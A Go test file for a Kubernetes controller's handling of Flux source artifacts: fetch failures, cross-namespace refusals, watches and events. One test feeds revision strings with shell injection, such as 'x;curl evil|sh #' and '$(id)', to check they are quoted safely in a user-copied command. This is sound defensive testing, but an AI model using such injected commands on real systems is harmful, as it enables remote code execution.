// SPDX-FileCopyrightText: The Corral Authors
// SPDX-License-Identifier: Apache-2.0

package sources

import (
	"context"
	"errors"
	"fmt"
	"io/fs"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	fluxmeta "github.com/fluxcd/pkg/apis/meta"
	"github.com/fluxcd/pkg/runtime/conditions"
	sourcev1 "github.com/fluxcd/source-controller/api/v1"
	"github.com/google/go-cmp/cmp"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	apimeta "k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"
	"sigs.k8s.io/controller-runtime/pkg/event"

	"github.com/corral-dev/corral/apis/v1alpha1"
	"github.com/corral-dev/corral/internal/fluxsource"
)

// artifactServer serves artifacts by digest.
type artifactServer struct {
	revisions map[string]string // content of each artifact, for the compiler
	err       error
	fetches   int
	before    func() // called when an artifact is fetched
}

func (s *artifactServer) Fetch(_ context.Context, artifact fluxsource.Artifact) (fs.FS, error) {
	s.fetches++
	if s.before != nil {
		s.before()
	}
	if s.err != nil {
		return nil, s.err
	}
	return fstest.MapFS{"revision": {Data: []byte(s.revisions[artifact.Digest])}}, nil
}

// fluxWorld is a world whose source refers to a GitRepository.
type fluxWorld struct {
	*world
	artifacts *artifactServer
	get       error // error of reading objects of Flux
}

func newFluxWorld(t *testing.T, objects ...client.Object) *fluxWorld {
	t.Helper()
	w := &fluxWorld{world: newWorld(t, objects...), artifacts: &artifactServer{revisions: map[string]string{}}}
	w.reconciler.Artifacts = w.artifacts
	w.reconciler.Live = interceptor.NewClient(w.client.(client.WithWatch), interceptor.Funcs{
		Get: func(ctx context.Context, c client.WithWatch, key client.ObjectKey, object client.Object, options ...client.GetOption) error {
			if _, ofFlux := object.(fluxSource); ofFlux && w.get != nil {
				return w.get
			}
			return c.Get(ctx, key, object, options...)
		},
	})
	return w
}

func ofFlux(change ...func(*v1alpha1.PoolSource)) *v1alpha1.PoolSource {
	return us(append([]func(*v1alpha1.PoolSource){func(s *v1alpha1.PoolSource) {
		s.Spec.Git, s.Spec.SourceRef = nil, &v1alpha1.SourceReference{Kind: v1alpha1.GitRepositoryKind, Name: "pools"}
	}}, change...)...)
}

// artifact returns an artifact of a revision.
func artifact(revision string) *fluxmeta.Artifact {
	return &fluxmeta.Artifact{Revision: revision, Digest: "digest of " + revision, URL: "http://source-controller/" + revision}
}

func repository(holds *fluxmeta.Artifact, condition ...metav1.Condition) *sourcev1.GitRepository {
	return &sourcev1.GitRepository{
		ObjectMeta: metav1.ObjectMeta{Namespace: "ci", Name: "pools"},
		Status:     sourcev1.GitRepositoryStatus{Artifact: holds, Conditions: condition},
	}
}

// stock serves an artifact, and sets it as the latest of the repository.
func (w *fluxWorld) stock(holds *fluxmeta.Artifact) {
	w.t.Helper()
	w.artifacts.revisions[holds.Digest] = holds.Revision
	object := repository(nil)
	if err := w.client.Get(w.t.Context(), client.ObjectKeyFromObject(object), object); err != nil {
		w.t.Fatal(err)
	}
	object.Status.Artifact = holds
	if err := w.client.Update(w.t.Context(), object); err != nil {
		w.t.Fatal(err)
	}
}

func TestAnArtifactOfEachKindIsApplied(t *testing.T) {
	at := metav1.ObjectMeta{Namespace: "ci", Name: "pools"}
	holds := artifact("v1@sha256:1")
	for kind, object := range map[string]client.Object{
		v1alpha1.GitRepositoryKind:    repository(holds),
		v1alpha1.OCIRepositoryKind:    &sourcev1.OCIRepository{ObjectMeta: at, Status: sourcev1.OCIRepositoryStatus{Artifact: holds}},
		v1alpha1.BucketKind:           &sourcev1.Bucket{ObjectMeta: at, Status: sourcev1.BucketStatus{Artifact: holds}},
		v1alpha1.ExternalArtifactKind: &sourcev1.ExternalArtifact{ObjectMeta: at, Status: sourcev1.ExternalArtifactStatus{Artifact: holds}},
	} {
		t.Run(kind, func(t *testing.T) {
			w := newFluxWorld(t, object, ofFlux(func(s *v1alpha1.PoolSource) { s.Spec.SourceRef.Kind = kind }))
			w.push(holds.Revision, pool("a"))
			w.artifacts.revisions[holds.Digest] = holds.Revision
			w.reconcile()
			w.expectReady("True Succeeded", "Applied revision v1@sha256:1: 1 pool")
			w.expectObjects(map[string]string{"RunnerPool a": "us"})
			w.reconcile()
			if w.artifacts.fetches != 1 || w.fetches != 0 {
				t.Errorf("fetched %d artifacts and %d repositories", w.artifacts.fetches, w.fetches)
			}
		})
	}
}

func TestARevisionWhoseContentChangedIsBuiltAnew(t *testing.T) {
	w := newFluxWorld(t, repository(nil), ofFlux())
	w.push("main@sha1:1", pool("a"))
	w.stock(artifact("main@sha1:1"))
	w.reconcile()
	other := artifact("main@sha1:1")
	other.Digest = "digest after a change of spec.ignore"
	w.stock(other)
	w.reconcile()
	if w.artifacts.fetches != 2 {
		t.Errorf("fetched %d times", w.artifacts.fetches)
	}
}

func TestABrokenArtifactIsRefused(t *testing.T) {
	w := newFluxWorld(t, repository(nil), ofFlux())
	w.pushBroken("main@sha1:1", 1)
	w.stock(artifact("main@sha1:1"))
	w.reconcile()
	w.expectReady("False BuildFailed Stalled", "a.cue:1:2: pools.a: wrong", "Corral applied nothing of revision main@sha1:1")
}

func TestWhatKeepsAnArtifactFromBeingHad(t *testing.T) {
	failing := metav1.Condition{Type: fluxmeta.ReadyCondition, Status: metav1.ConditionFalse, Reason: "GitOperationFailed", Message: "authentication required"}
	kind := schema.GroupKind{Group: sourcev1.GroupVersion.Group, Kind: v1alpha1.GitRepositoryKind}
	forbidden := apierrors.NewForbidden(schema.GroupResource{Group: kind.Group, Resource: "gitrepositories"}, "pools", errors.New("no rule"))
	long := artifact(strings.Repeat("r", maxRevision+1))
	cases := map[string]struct {
		object *sourcev1.GitRepository
		get    error
		fetch  error
		want   string
		text   []string
		after  time.Duration
	}{
		"the kind is not installed": {
			get: &apimeta.NoKindMatchError{GroupKind: kind}, want: "False ArtifactFailed Reconciling", after: time.Minute,
			text: []string{"the kind GitRepository of source.toolkit.fluxcd.io is not installed"},
		},
		"it may not be read": {get: forbidden, want: "False ArtifactFailed Reconciling", text: []string{"not allowed to read GitRepository ci/pools", "flux.enabled"}, after: time.Minute},
		"it is not there":    {want: "False ArtifactFailed Reconciling", text: []string{"GitRepository ci/pools not found"}, after: time.Minute},
		"there is no artifact yet": {
			object: repository(nil), want: "False ArtifactFailed Reconciling", text: []string{"GitRepository ci/pools has no artifact yet"}, after: time.Minute,
		},
		"there is none because the repository fails": {
			object: repository(nil, failing), want: "False ArtifactFailed Reconciling",
			text: []string{"has no artifact yet: GitOperationFailed: authentication required"}, after: time.Minute,
		},
		"it is gone": {
			object: repository(artifact("r")), fetch: fluxsource.ErrNotFound, want: "False ArtifactFailed Reconciling", after: artifactRetry,
			text: []string{"artifact not found; Corral waits until source-controller publishes the artifact again"},
		},
		"it isn't what it should be": {
			object: repository(artifact("r")), fetch: fluxsource.ErrDigest, want: "False ArtifactFailed Reconciling", after: artifactRetry,
			text: []string{"cannot fetch the artifact of GitRepository ci/pools: digest does not match"},
		},
		"source-controller is away":        {object: repository(artifact("r")), fetch: fluxsource.ErrUnavailable, want: "False ArtifactFailed Reconciling", after: artifactRetry},
		"source-controller hangs":          {object: repository(artifact("r")), fetch: fluxsource.ErrTimeout, want: "False ArtifactFailed Reconciling", text: []string{"spec.timeout is 1m0s"}, after: artifactRetry},
		"it is too large":                  {object: repository(artifact("r")), fetch: fluxsource.ErrTooLarge, want: "False ArtifactFailed Stalled", text: []string{"Corral applied nothing of revision r"}, after: 10 * time.Minute},
		"it is no archive":                 {object: repository(artifact("r")), fetch: fluxsource.ErrUnusable, want: "False ArtifactFailed Stalled", after: 10 * time.Minute},
		"its revision is more than a line": {object: repository(artifact("main\n@sha1:1")), want: "False ArtifactFailed Stalled", text: []string{`"main\n@sha1:1"`}, after: 10 * time.Minute},
		"its revision is without measure":  {object: repository(long), want: "False ArtifactFailed Stalled", text: []string{"512"}, after: 10 * time.Minute},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			objects := []client.Object{ofFlux()}
			if tc.object != nil {
				objects = append(objects, tc.object)
			}
			w := newFluxWorld(t, objects...)
			w.get, w.artifacts.err = tc.get, tc.fetch
			result := w.reconcile()
			w.expectReady(tc.want, tc.text...)
			if result.RequeueAfter != tc.after {
				t.Errorf("looks again after %s, want %s", result.RequeueAfter, tc.after)
			}
		})
	}
}

// The author of an ExternalArtifact chooses the revision freely, and it appears in a command that users copy.
func TestARevisionIsOneWordOfACommand(t *testing.T) {
	for revision, word := range map[string]string{
		"v1.2.0+a@sha256:0123":  "v1.2.0+a@sha256:0123",
		"x;curl evil|sh #":      "'x;curl evil|sh #'",
		"it's$(id)@sha1:0123":   `'it'\''s$(id)@sha1:0123'`,
		"feature/a&b@sha1:0123": "'feature/a&b@sha1:0123'",
	} {
		w := newFluxWorld(t, repository(nil), ofFlux())
		w.push("first", pool("a"))
		w.stock(artifact("first"))
		w.reconcile()
		w.push(revision, pool("b"))
		w.stock(artifact(revision))
		w.reconcile()
		w.expectReady("False PruneRefused Stalled", v1alpha1.AllowPruneAnnotation+"="+word)
		if message := conditions.GetMessage(w.source(), v1alpha1.ReadyCondition); !strings.HasSuffix(message, word) {
			t.Error(message)
		}
	}
}

func TestAnArtifactThatWasReplacedMeanwhileIsNoFailure(t *testing.T) {
	w := newFluxWorld(t, repository(nil), ofFlux())
	w.push("main@sha1:2", pool("a"))
	w.stock(artifact("main@sha1:1"))
	w.artifacts.err = fluxsource.ErrNotFound
	w.artifacts.before = func() { w.stock(artifact("main@sha1:2")) }
	if got := w.reconcile(); got.RequeueAfter != busyRetry {
		t.Errorf("looks again after %s", got.RequeueAfter)
	}
	if told := w.newEvents(); len(told) != 0 {
		t.Errorf("told %v", told)
	}
	w.artifacts.err, w.artifacts.before = nil, nil
	w.reconcile()
	w.expectReady("True Succeeded", "main@sha1:2")
}

func TestOtherNamespacesAreRefusedUnlessAllowed(t *testing.T) {
	elsewhere := repository(artifact("main@sha1:1"))
	elsewhere.Namespace = "platform"
	named := ofFlux(func(s *v1alpha1.PoolSource) { s.Spec.SourceRef.Namespace = "platform" })
	depends := us(func(s *v1alpha1.PoolSource) {
		s.Spec.DependsOn = []fluxmeta.NamespacedObjectReference{{Name: "base"}, {Namespace: "platform", Name: "base"}}
	})
	t.Run("a source of Flux", func(t *testing.T) {
		w := newFluxWorld(t, elsewhere, named)
		w.reconcile()
		w.expectReady("False AccessDenied Stalled", "spec.sourceRef refers to namespace platform", "--no-cross-namespace-refs")
		if w.artifacts.fetches != 0 {
			t.Error("it was fetched")
		}
	})
	t.Run("a dependency", func(t *testing.T) {
		w := newFluxWorld(t, depends)
		w.reconcile()
		w.expectReady("False AccessDenied Stalled", "spec.dependsOn[1] refers to namespace platform")
	})
	t.Run("allowed", func(t *testing.T) {
		w := newFluxWorld(t, elsewhere, named)
		w.reconciler.CrossNamespace = true
		w.push("main@sha1:1", pool("a"))
		w.artifacts.revisions["digest of main@sha1:1"] = "main@sha1:1"
		w.reconcile()
		w.expectReady("True Succeeded", "main@sha1:1")
	})
}

func TestWhatOfAnArtifactWakesASource(t *testing.T) {
	ready := func(message string) metav1.Condition {
		return metav1.Condition{Type: fluxmeta.ReadyCondition, Status: metav1.ConditionFalse, Message: message}
	}
	one, redone := artifact("1"), artifact("1")
	redone.Digest = "another"
	cases := map[string]struct {
		was, is *sourcev1.GitRepository
		want    bool
	}{
		"the first artifact":    {repository(nil), repository(one), true},
		"another revision":      {repository(one), repository(artifact("2")), true},
		"another content":       {repository(one), repository(redone), true},
		"none any more":         {repository(one), repository(nil), true},
		"why there is none":     {repository(nil, ready("a")), repository(nil, ready("b")), true},
		"the same":              {repository(one), repository(one), false},
		"a failure with it":     {repository(one, ready("a")), repository(one, ready("b")), false},
		"still none, as before": {repository(nil, ready("a")), repository(nil, ready("a")), false},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			if got := artifactChanged.Update(event.UpdateEvent{ObjectOld: untyped(t, tc.was), ObjectNew: untyped(t, tc.is)}); got != tc.want {
				t.Errorf("got %t", got)
			}
		})
	}
	unreadable := untyped(t, repository(one))
	unreadable.Object["status"] = map[string]any{"artifact": "none"}
	if !artifactChanged.Update(event.UpdateEvent{ObjectOld: unreadable, ObjectNew: untyped(t, repository(one))}) {
		t.Error("one that could not be read before wakes nobody")
	}
	odd := untyped(t, repository(one))
	odd.Object["spec"] = map[string]any{"interval": "99999999999999h"}
	if artifactChanged.Update(event.UpdateEvent{ObjectOld: odd, ObjectNew: untyped(t, repository(one))}) {
		t.Error("a spec that Go can't read hides that the artifact is the same")
	}
}

func untyped(t *testing.T, object *sourcev1.GitRepository) *unstructured.Unstructured {
	t.Helper()
	content, err := runtime.DefaultUnstructuredConverter.ToUnstructured(object)
	if err != nil {
		t.Fatal(err)
	}
	u := &unstructured.Unstructured{Object: content}
	u.SetGroupVersionKind(sourcev1.GroupVersion.WithKind(v1alpha1.GitRepositoryKind))
	return u
}

func TestAKindIsWatchedOnceItIsThere(t *testing.T) {
	var log []string
	installed := false
	w := newFluxWatch()
	w.installed = func(string) bool { return installed }
	w.begin = func(kind string) error {
		log = append(log, kind)
		return nil
	}
	w.want(v1alpha1.BucketKind)
	w.look(t.Context())
	installed = true
	w.look(t.Context())
	w.look(t.Context())
	w.want(v1alpha1.BucketKind) // a source that was reconciled before the watch began
	w.look(t.Context())
	for range 2 {
		if err := w.watch(v1alpha1.GitRepositoryKind); err != nil {
			t.Fatal(err)
		}
	}
	if diff := cmp.Diff([]string{v1alpha1.BucketKind, v1alpha1.GitRepositoryKind}, log); diff != "" {
		t.Error(diff)
	}
}

func TestAWatchThatCannotBeginIsTriedAgain(t *testing.T) {
	w := newFluxWatch()
	w.installed = func(string) bool { return true }
	tries := 0
	w.begin = func(string) error {
		if tries++; tries == 1 {
			return fmt.Errorf("not now")
		}
		return nil
	}
	w.want(v1alpha1.BucketKind)
	for range 3 {
		w.look(t.Context())
	}
	if tries != 2 {
		t.Errorf("tried %d times", tries)
	}
}

// notified has the metadata of events by reason.
type notified map[string]map[string]string

func (n notified) Notify(_ client.Object, _, reason, _ string, metadata map[string]string) {
	n[reason] = metadata
}

func TestEventsNameTheRevision(t *testing.T) {
	w := newFluxWorld(t, repository(nil), ofFlux(), &v1alpha1.RunnerPool{ObjectMeta: metav1.ObjectMeta{Namespace: "ci", Name: "a"}})
	got := notified{}
	w.reconciler.Notifier = got
	w.push("v1@sha256:1", pool("a"))
	holds := artifact("v1@sha256:1")
	holds.Metadata = map[string]string{originRevisionKey: "main@sha1:7"}
	w.stock(holds)
	w.reconcile()
	want := notified{
		v1alpha1.SucceededReason: {
			"corral.dev/revision": "v1@sha256:1", "corral.dev/originRevision": "main@sha1:7", "corral.dev/commit_status": "update",
		},
		adoptedEvent: {"corral.dev/revision": "v1@sha256:1", "corral.dev/originRevision": "main@sha1:7"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}
